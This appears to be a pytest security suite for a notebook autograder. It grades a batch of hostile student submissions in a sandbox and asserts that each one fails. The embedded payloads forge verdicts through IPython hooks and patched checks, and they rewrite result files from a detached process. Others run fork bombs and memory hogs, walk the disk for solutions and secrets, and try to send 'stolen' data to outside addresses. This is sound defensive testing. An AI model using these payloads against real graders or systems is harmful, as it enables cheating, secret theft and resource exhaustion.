"""A hostile batch: submissions written by a student who has read the grader's source.

Every attack is graded in one batch beside honest submissions, in the bubblewrap sandbox, and must
score no more than an honest wrong answer (0 here), while every victim keeps its full score, its row
and its signed result. The families: swallowing errors and forging verdicts, forging files after the
run, tampering with siblings, reading secrets and solutions, the network, resource escapes, metadata
tricks, name collisions and output floods.
"""

import csv
import dataclasses
import json
import os
import socket
import threading
import time

import psutil
import pytest
from grading_fixture import (
    HONEST,
    HONEST_WRONG,
    LAB,
    OPTS,
    WRONG_VALUE,
    answered,
    assert_honest_scores,
    attack,
    cells_with,
    scores,
    write_source,
)

from labkit import gradebook, grading

pytestmark = pytest.mark.sandbox

SECRET = "labkit-secret-7f3a9c"          # in the grader's environment; no kernel may see it
MARKER = "labkit-attack-marker-51d2"     # in the command line of processes an attack leaves behind


FORGING = {
    # error swallowing: failing test cells raise nothing and report success
    "custom_exc": attack("get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"),
    "reply_ok": attack(
        "ip = get_ipython()\nold = ip.run_cell\n"
        "def run_cell(raw_cell, *a, **k):\n    r = old(raw_cell, *a, **k)\n"
        "    r.error_in_exec = None\n    r.error_before_exec = None\n    return r\nip.run_cell = run_cell"),
    # test cells rewritten before they run
    "transformer": attack(
        "def drop_tests(lines):\n    return [] if any('Checks()' in l for l in lines) else lines\n"
        "get_ipython().input_transformers_cleanup.append(drop_tests)"),
    "pre_run_rewrite": attack(
        "def hook(info):\n    if 'Checks' in (info.raw_cell or ''):\n        info.raw_cell = 'pass'\n"
        "get_ipython().events.register('pre_run_cell', hook)"),
    # the checks themselves patched: every visible check reports its expected value, every bool True
    "patched_checks": attack(
        "import labkit.exercise as ex\n"
        "def forged(self, name, actual, expected, kind, rtol, atol, hint):\n"
        "    self._emit(name, expected, kind, rtol, atol, hidden=False, weight=1.0, hint=hint)\n    return True\n"
        "ex.Checks._check = forged\nold_emit = ex.Checks._emit\n"
        "def emit(self, name, actual, kind, rtol, atol, hidden, weight, hint=''):\n"
        "    value = actual() if callable(actual) else actual\n"
        "    old_emit(self, name, True if isinstance(value, bool) else 7, kind, rtol, atol, hidden, weight, hint)\n"
        "ex.Checks._emit = emit"),
    "verdicts_off": attack("import labkit.exercise as ex\nex._grading['on'] = False"),
    # forged observations: duplicates from a hook, and from a thread while the test cell runs
    "duplicate_observations": attack(
        "from IPython.display import display\nfrom labkit.exercise import OBSERVATION_MIME as M\n"
        "def hook(result):\n    for name in ('square(-2)', 'square(0.5)', 'square(11)', 'value', 'value within 0.2'):\n"
        "        display({M: {'name': name, 'kind': 'equal', 'rtol': 0, 'atol': 0, 'hidden': True,\n"
        "                     'weight': 1, 'hint': '', 'value': 4}}, raw=True)\n"
        "get_ipython().events.register('post_execute', hook)"),
    "observation_thread": attack(
        "import threading, time\nfrom IPython.display import display\nfrom labkit.exercise import OBSERVATION_MIME as M\n"
        "def flood():\n    while True:\n"
        "        for name, v in (('square(-2)', 4), ('square(11)', 121), ('value', 0.5)):\n"
        "            display({M: {'name': name, 'kind': 'equal', 'rtol': 0, 'atol': 0, 'hidden': True,\n"
        "                         'weight': 1, 'hint': '', 'value': v}}, raw=True)\n"
        "        time.sleep(0.01)\nthreading.Thread(target=flood, daemon=True).start()"),
    # the answer ends the test early: exit, or a loop that ignores the interrupt
    "exit_in_test": answered(answer_1="import os\ndef square(x):\n    os._exit(0)", answer_2=WRONG_VALUE),
    "loop_in_test": answered(answer_1="def square(x):\n    while True:\n        pass", answer_2=WRONG_VALUE),
    "stubborn_in_test": answered(answer_1=(
        "import signal\ndef square(x):\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        "    while True:\n        pass"), answer_2=WRONG_VALUE),
}

WALKER = (
    "import os, sys\n"
    "def files_everywhere():\n"
    "    skip = ('/proc', '/sys', '/dev', sys.prefix, sys.base_prefix)\n"
    "    for top, dirs, files in os.walk('/'):\n"
    "        dirs[:] = [d for d in dirs if not os.path.join(top, d).startswith(skip)]\n"
    "        for f in files:\n"
    "            yield os.path.join(top, f)\n"
)


def network_attack(port: int) -> dict:
    """Tries the grader's machine (a server the test runs) and two outside addresses."""
    return attack(
        "import socket\n"
        f"for host, port in (('127.0.0.1', {port}), ('10.0.2.2', 80), ('8.8.8.8', 53)):\n    try:\n"
        "        socket.create_connection((host, port), timeout=2).sendall(b'stolen')\n"
        "        print('REACHED', host)\n    except OSError as err:\n        print('no network:', host, err)")


ESCAPES = {
    # a detached process rewrites every result.json it can find, for a minute after the run
    "rewriter": attack(
        "import subprocess, sys, textwrap\n"
        f"script = {WALKER!r} + textwrap.dedent('''\n"
        "    import json, time\n"
        "    for _ in range(300):\n"
        "        for p in files_everywhere():\n"
        "            if p.endswith('result.json'):\n"
        "                try:\n"
        "                    open(p, 'w').write(json.dumps({'score': 99}))\n"
        "                except OSError:\n"
        "                    pass\n"
        "        time.sleep(0.2)\n"
        "''')\n"
        f"subprocess.Popen([sys.executable, '-c', script, '{MARKER}'], start_new_session=True,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"),
    "leftover": attack(
        "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        os.execvp('sleep', ['sleep', '1000', '{MARKER}'])\n    os._exit(0)"),
    "shm_hog": attack(
        "import os\ntry:\n    with open('/dev/shm/fill', 'wb') as fh:\n        for _ in range(4000):\n"
        "            fh.write(b'x' * 1_000_000)\nexcept OSError as err:\n    print('stopped:', err)"),
    "fork_bomb": attack(
        "import os, time\nfor _ in range(5000):\n    try:\n        if os.fork() == 0:\n            time.sleep(30)\n"
        "            os._exit(0)\n    except OSError as err:\n        print('stopped:', err)\n        break"),
    # solutions, hidden tests, keys, other results, the grader's environment and processes
    "snoop": attack(
        WALKER + "found = []\n"
        "for p in files_everywhere():\n"
        "    if p.endswith(('result.json', '.labkit-key')) or ('/reference/' in p and p.endswith('.json')):\n"
        "        found.append(p)\n"
        "    elif p.endswith('.ipynb'):\n"
        "        try:\n            text = open(p, errors='replace').read(1_000_000)\n"
        "        except OSError:\n            continue\n"
        "        if 'BEGIN HIDDEN' in text or 'BEGIN SOLUTION' in text:\n"
        "            found.append(p)\n"
        "print('FOUND', found)\nprint('ENV', sorted(os.environ))\n"
        "print('PIDS', sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))\n"
        "print('HOSTENV', [v for v in os.environ.values() if 'secret' in v])"),
}


METADATA = {
    "markdown_grade_id": answered(answer_2=WRONG_VALUE, edit=lambda nb: nb["cells"].append(
        {"cell_type": "markdown", "id": "md-x", "metadata": {"nbgrader": {"grade": True, "grade_id": "q1_tests",
                                                                           "points": 2, "solution": False}},
         "source": "I passed"})),
    "duplicate_grade_id": answered(answer_1="def square(x):\n    return x + x", answer_2=WRONG_VALUE,
                                   edit=lambda nb: nb["cells"].append(json.loads(json.dumps(cells_with(nb, "q1")[0]))
                                                                      | {"id": "dup"})),
    "role_changed": answered(answer_2=WRONG_VALUE, edit=lambda nb: cells_with(nb, "q1_tests")[0]["metadata"][
        "nbgrader"].update(solution=True, grade=False)),
    "points_inflated": answered(answer_1="def square(x):\n    return x + x", answer_2=WRONG_VALUE,
                                edit=lambda nb: cells_with(nb, "q1_tests")[0]["metadata"]["nbgrader"].update(
                                    points=1000)),
    "flood": attack(
        "from IPython.display import display\nimport base64\n"
        "for i in range(2000):\n    display({'text/plain': 'x' * 1000}, raw=True, metadata={'m': 'y' * 20_000})\n"
        "display({'image/png': base64.b64encode(b'x' * 5_000_000).decode()}, raw=True)\n"
        "display({'application/json': {'a': 'b' * 3_000_000}}, raw=True)"),
}

ATTACKS = {**FORGING, **ESCAPES, **METADATA, "network": None}  # network: made with the test server's port
WHOLE_DISK = ("snoop",)
"""Attacks that read every file in the sandbox: graded after the batch, beside its finished results, with
time enough to walk the whole system (the batch's five-second cell limit cuts them short on a busy machine)."""
COLLISIONS = ("gradebook.csv", "report.html", ".labkit-key", "reference", "Victim_A")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    subs = root / "submissions"
    (subs / "x").mkdir(parents=True)
    for name, nb in {**HONEST, **FORGING, **ESCAPES, **METADATA}.items():
        (subs / f"{name}.ipynb").write_text(json.dumps(nb))
    for name in COLLISIONS:
        (subs / f"{name}.ipynb").write_text(json.dumps(HONEST_WRONG))
    (subs / "x" / "victim_a.ipynb").write_text(json.dumps(HONEST_WRONG))  # a second victim_a
    v3 = answered(answer_2=WRONG_VALUE)
    v3["nbformat"] = 3
    (subs / "nbformat3.ipynb").write_text(json.dumps(v3))
    source = write_source(root)
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    (subs / "network.ipynb").write_text(json.dumps(network_attack(server.getsockname()[1])))
    server.settimeout(0.5)
    reached = []

    def listen():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                reached.append(conn.recv(100))
            except OSError:
                pass

    stop = threading.Event()
    threading.Thread(target=listen, daemon=True).start()
    mp = pytest.MonkeyPatch()
    mp.setenv("LABKIT_TEST_SECRET", SECRET)
    try:
        found = grading.collect_submissions([subs], LAB)
        first = [s for s in found if s.path.stem not in WHOLE_DISK]
        late = [s for s in found if s.path.stem in WHOLE_DISK]
        results = grading.grade_batch(first, source, root / "out", OPTS, workers=2, progress=lambda line: None)
        results += grading.grade_batch(late, source, root / "out", dataclasses.replace(OPTS, cell_timeout=120,
                                       timeout=240), progress=lambda line: None)
        gradebook.write_gradebook(root / "out")
        time.sleep(2)  # anything left behind would act now
        # keyed by submitted file (names that collide get other ids, see the collision test)
        yield root, {os.path.relpath(r["submission"], subs)[:-len(".ipynb")]: r for r in results}, reached
    finally:
        stop.set()
        server.close()
        mp.undo()


def _outputs_text(result: dict) -> str:
    with open(result["executed_notebook"]) as fh:
        nb = json.load(fh)
    return json.dumps([c.get("outputs", []) for c in nb["cells"]])


def test_honest_submissions_score_as_they_should(hostile):
    assert_honest_scores(hostile[1])


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_no_attack_scores_more_than_an_honest_wrong_answer(hostile, name):
    result = hostile[1][name]
    assert result["score"] <= hostile[1]["honest_wrong"]["score"], (result["status"], scores(result),
                                                                       result["messages"])
    assert result["max_score"] == 3.0


def test_ending_a_test_cell_early_scores_it_zero_with_the_reason(hostile):
    died, looped, stubborn = (hostile[1][name] for name in ("exit_in_test", "loop_in_test", "stubborn_in_test"))
    assert died["status"] == "kernel-died" and "kernel died" in died["questions"][0]["message"]
    assert looped["status"] == "graded" and "ran past its time limit" in looped["questions"][0]["message"]
    assert stubborn["status"] == "timed-out" and "ignored the interrupt" in " ".join(stubborn["messages"])


def test_victims_keep_their_signed_results_and_rows(hostile):
    root, results, _ = hostile
    key = grading.signing_key(root / "out")
    for name in ("victim_a", "victim_b"):
        saved = json.loads((root / "out" / "students" / results[name]["student"] / "result.json").read_text())
        assert grading.verify(saved, key) and saved["score"] == 3.0
    with open(root / "out" / "gradebook.csv", newline="") as fh:
        rows = {row["student_id"]: row for row in csv.DictReader(fh)}
    assert set(rows) == {r["student"] for r in results.values()}
    assert float(rows[results["victim_a"]["student"]]["score"]) == 3.0
    assert all(row["status"] != "unverified" for row in rows.values())


def test_nothing_an_attack_started_survives_the_batch(hostile):
    left = [p.info["cmdline"] for p in psutil.process_iter(["cmdline"]) if MARKER in " ".join(p.info["cmdline"] or [])]
    assert left == []


def test_memory_and_process_caps_hold_for_the_whole_sandbox(hostile):
    results = hostile[1]
    assert results["shm_hog"]["status"] == "memory-exceeded" or "stopped:" in _outputs_text(results["shm_hog"])
    assert not os.path.exists("/dev/shm/fill")
    assert results["fork_bomb"]["status"] in ("process-limit", "graded")
    assert results["fork_bomb"]["status"] == "process-limit" or "stopped:" in _outputs_text(results["fork_bomb"])


def test_no_kernel_reaches_the_network(hostile):
    _, results, reached = hostile
    assert reached == []
    text = _outputs_text(results["network"])
    assert "REACHED" not in text and text.count("no network:") == 3


def test_no_kernel_sees_solutions_keys_other_results_secrets_or_processes(hostile):
    text = _outputs_text(hostile[1]["snoop"])
    assert "FOUND []" in text, text[:2000]
    assert SECRET not in text and "LABKIT_TEST_SECRET" not in text and "HOSTENV []" in text
    pids = json.loads(text.split("PIDS ")[1].split("\\n")[0])
    assert len(pids) < 10, pids  # its own few processes only, not the grader's or another kernel's


def test_metadata_tricks_are_rejected_with_a_message(hostile):
    results = hostile[1]
    for name, words in [("markdown_grade_id", "belongs to a code cell"), ("duplicate_grade_id", "repeats grade_id"),
                        ("role_changed", "grade metadata changed")]:
        assert results[name]["status"] == "rejected" and words in " ".join(results[name]["messages"]), name
    assert results["nbformat3"]["status"] == "invalid-notebook"
    assert "only format 4" in results["nbformat3"]["messages"][0]
    assert results["points_inflated"]["max_score"] == 3.0


def test_names_never_collide_with_each_other_or_the_batch_files(hostile):
    root, results, _ = hostile
    ids = [r["student"] for r in results.values()]
    assert len({i.lower() for i in ids}) == len(ids) == len(results)
    for name in COLLISIONS + ("x/victim_a",):
        assert results[name]["status"] == "graded" and results[name]["score"] == 0.0, name
    assert results["victim_a"]["score"] == 3.0
    assert (root / "out" / "gradebook.csv").read_text().startswith("assignment,")
    assert grading.verify(json.loads((root / "out" / "students" / results["gradebook.csv"]["student"]
                                      / "result.json").read_text()), grading.signing_key(root / "out"))


def test_floods_are_capped_in_what_is_stored(hostile):
    result = hostile[1]["flood"]
    size = os.path.getsize(result["executed_notebook"])
    assert size < 2_000_000, size
    assert any("were cut" in m for m in result["messages"])


def test_a_forged_result_file_is_shown_as_unverified(tmp_path):
    out = tmp_path / "out"
    (out / "students" / "mallory").mkdir(parents=True)
    (out / "students" / "mallory" / "result.json").write_text(json.dumps(
        {"student": "mallory", "status": "graded", "score": 3.0, "max_score": 3.0, "questions": [],
         "signature": "0" * 64}))
    (row,) = gradebook.read_results(out)
    assert row["status"] == "unverified" and row["score"] == 0.0
